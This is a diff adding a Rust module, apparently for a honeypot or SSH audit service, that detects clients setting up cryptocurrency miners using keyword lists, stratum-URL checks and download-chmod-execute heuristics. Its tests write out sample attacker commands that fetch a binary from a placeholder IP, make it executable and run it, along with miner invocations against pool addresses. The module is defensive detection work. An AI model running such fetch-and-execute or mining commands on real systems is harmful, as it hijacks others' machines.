@@ -0,0 +1,223 @@
+//! Heuristics for spotting a client setting up a cryptocurrency miner from the commands it runs
+//! and the files it uploads.
+
+use std::path::Path;
+
+use crate::audit::{MinerConfidence, MinerIndicator, SuspectedMinerEvent};
+
+/// Names of well known miners, matched case-insensitively anywhere in a command, file name or
+/// file content.
+const KNOWN_MINERS: &[&str] = &[
+    "xmrig", "xmr-stak", "cpuminer", "minerd", "ccminer", "nbminer", "lolminer", "t-rex",
+];
+
+/// Schemes used by mining pools, matched case-insensitively.
+const STRATUM_SCHEMES: &[&str] = &["stratum+tcp://", "stratum+ssl://", "stratum+tls://"];
+
+/// Extension of the config files that miners such as `xmrig` read their pools from.
+const CONFIG_EXTENSION: &str = "json";
+
+fn contains_ignore_case(haystack: &[u8], needle: &str) -> bool {
+    haystack
+        .windows(needle.len())
+        .any(|v| v.eq_ignore_ascii_case(needle.as_bytes()))
+}
+
+/// Returns true if `mode`, as passed to `chmod`, makes a file executable.
+fn is_executable_mode(mode: &str) -> bool {
+    if let Some(mode) = mode.split(',').find_map(|v| v.split_once('+')) {
+        mode.1.contains('x')
+    } else {
+        // an octal mode where the owner can execute
+        mode.len() >= 3
+            && mode.bytes().all(|c| matches!(c, b'0'..=b'7'))
+            && (mode.as_bytes()[mode.len() - 3] - b'0') & 1 == 1
+    }
+}
+
+/// Returns true if `content` is a JSON document with a list of pools to connect to, as read by
+/// `xmrig` and its forks.
+fn is_pool_config(content: &[u8]) -> bool {
+    let Ok(serde_json::Value::Object(config)) = serde_json::from_slice(content) else {
+        return false;
+    };
+
+    config
+        .get("pools")
+        .and_then(serde_json::Value::as_array)
+        .is_some_and(|pools| {
+            pools
+                .iter()
+                .any(|pool| pool.get("url").is_some() && pool.get("user").is_some())
+        })
+}
+
+/// Indicators seen over the lifetime of a connection.
+#[derive(Debug, Default)]
+pub struct MinerDetector {
+    indicators: Vec<MinerIndicator>,
+    checked_cpus: bool,
+    downloaded: bool,
+    made_executable: bool,
+}
+
+impl MinerDetector {
+    /// Checks a command line typed by the client, returning the event to raise if it revealed a
+    /// new indicator.
+    pub fn command(&mut self, command: &str) -> Option<SuspectedMinerEvent> {
+        let before = self.indicators.len();
+
+        if KNOWN_MINERS
+            .iter()
+            .any(|v| contains_ignore_case(command.as_bytes(), v))
+        {
+            self.add(MinerIndicator::KnownMiner);
+        }
+
+        if STRATUM_SCHEMES
+            .iter()
+            .any(|v| contains_ignore_case(command.as_bytes(), v))
+        {
+            self.add(MinerIndicator::StratumUrl);
+        }
+
+        // split pipelines, lists and substitutions apart, so `chmod +x x;./x -t $(nproc)` is seen as
+        // three commands
+        for statement in command.split([';', '&', '|', '\n', '(', ')', '`']) {
+            let mut words = statement
+                .split_whitespace()
+                .map(|v| v.rsplit('/').next().unwrap_or(v));
+
+            match words.next() {
+                Some("nproc") => self.checked_cpus = true,
+                Some("wget" | "curl") => self.downloaded = true,
+                Some("chmod") if words.any(is_executable_mode) => self.made_executable = true,
+                _ => {}
+            }
+        }
+
+        if self.checked_cpus && self.downloaded && self.made_executable {
+            self.add(MinerIndicator::DownloadAndExecute);
+        }
+
+        self.event(before, command)
+    }
+
+    /// Checks a file written by the client, returning the event to raise if it revealed a new
+    /// indicator.
+    pub fn file(&mut self, path: &str, content: &[u8]) -> Option<SuspectedMinerEvent> {
+        let before = self.indicators.len();
+
+        if KNOWN_MINERS
+            .iter()
+            .any(|v| contains_ignore_case(path.as_bytes(), v) || contains_ignore_case(content, v))
+        {
+            self.add(MinerIndicator::KnownMiner);
+        }
+
+        if STRATUM_SCHEMES
+            .iter()
+            .any(|v| contains_ignore_case(content, v))
+        {
+            self.add(MinerIndicator::StratumUrl);
+        }
+
+        if Path::new(path)
+            .extension()
+            .is_some_and(|v| v.eq_ignore_ascii_case(CONFIG_EXTENSION))
+            && is_pool_config(content)
+        {
+            self.add(MinerIndicator::PoolConfig);
+        }
+
+        self.event(before, path)
+    }
+
+    fn add(&mut self, indicator: MinerIndicator) {
+        if !self.indicators.contains(&indicator) {
+            self.indicators.push(indicator);
+        }
+    }
+
+    /// How sure we are that the client is setting up a miner, given every indicator seen so far.
+    /// Any two indicators together are considered conclusive.
+    fn confidence(&self) -> MinerConfidence {
+        if self.indicators.len() > 1 {
+            return MinerConfidence::High;
+        }
+
+        match self.indicators.first() {
+            Some(MinerIndicator::StratumUrl | MinerIndicator::PoolConfig) => MinerConfidence::High,
+            Some(MinerIndicator::KnownMiner) => MinerConfidence::Medium,
+            Some(MinerIndicator::DownloadAndExecute) | None => MinerConfidence::Low,
+        }
+    }
+
+    fn event(&self, before: usize, source: &str) -> Option<SuspectedMinerEvent> {
+        (self.indicators.len() > before).then(|| SuspectedMinerEvent {
+            confidence: self.confidence(),
+            indicators: self.indicators.clone().into_boxed_slice(),
+            source: Box::from(source),
+        })
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use test_case::test_case;
+
+    use crate::{
+        audit::{MinerConfidence, MinerIndicator},
+        miner::MinerDetector,
+    };
+
+    #[test_case(&["./xmrig -o pool.supportxmr.com:443"], &[MinerIndicator::KnownMiner], MinerConfidence::Medium; "known miner")]
+    #[test_case(&["./x -o stratum+tcp://pool.example.com:3333 -u 4abc"], &[MinerIndicator::StratumUrl], MinerConfidence::High; "stratum")]
+    #[test_case(&["nproc", "cd /tmp; wget http://1.2.3.4/x", "chmod +x x && ./x -t 4"], &[MinerIndicator::DownloadAndExecute], MinerConfidence::Low; "download and execute")]
+    #[test_case(&["curl -s http://1.2.3.4/k|tar xz;chmod 755 k;./k -t $(nproc)"], &[MinerIndicator::DownloadAndExecute], MinerConfidence::Low; "single line")]
+    #[test_case(&["/usr/bin/curl -O http://1.2.3.4/XMRig", "chmod u+x XMRig", "nproc"], &[MinerIndicator::KnownMiner, MinerIndicator::DownloadAndExecute], MinerConfidence::High; "combined")]
+    #[test_case(&["nproc", "wget http://1.2.3.4/x", "chmod 644 x"], &[], MinerConfidence::Low; "not executable")]
+    #[test_case(&["uname -a", "cat /proc/cpuinfo"], &[], MinerConfidence::Low; "benign")]
+    fn commands(
+        commands: &[&str],
+        expected: &[MinerIndicator],
+        expected_confidence: MinerConfidence,
+    ) {
+        let mut detector = MinerDetector::default();
+        let mut last = None;
+
+        for command in commands {
+            last = detector.command(command).or(last);
+        }
+
+        match last {
+            Some(event) => {
+                assert_eq!(&*event.indicators, expected);
+                assert_eq!(event.confidence, expected_confidence);
+            }
+            None => assert!(expected.is_empty()),
+        }
+    }
+
+    #[test_case("/tmp/config.json", br#"{"pools":[{"url":"pool.hashvault.pro:80","user":"4abc"}]}"#, &[MinerIndicator::PoolConfig]; "pool config")]
+    #[test_case("/tmp/config.json", br#"{"pools":[]}"#, &[]; "no pools")]
+    #[test_case("/tmp/run.sh", b"./k -o stratum+ssl://pool.example.com:443", &[MinerIndicator::StratumUrl]; "stratum in script")]
+    #[test_case("/tmp/.x/kworker", b"\x7fELF\x02\x01XMRig/6.20.0", &[MinerIndicator::KnownMiner]; "binary")]
+    #[test_case("/tmp/notes.json", br#"{"url":"https://example.com"}"#, &[]; "unrelated json")]
+    fn files(path: &str, content: &[u8], expected: &[MinerIndicator]) {
+        let event = MinerDetector::default().file(path, content);
+        assert_eq!(
+            event.map(|v| v.indicators.to_vec()).unwrap_or_default(),
+            expected
+        );
+    }
+
+    #[test]
+    fn only_raises_new_indicators() {
+        let mut detector = MinerDetector::default();
+
+        assert!(detector.command("./xmrig").is_some());
+        assert!(detector.command("./xmrig --donate-level 1").is_none());
+        assert!(detector.file("/tmp/xmrig", b"").is_none());
+    }
+}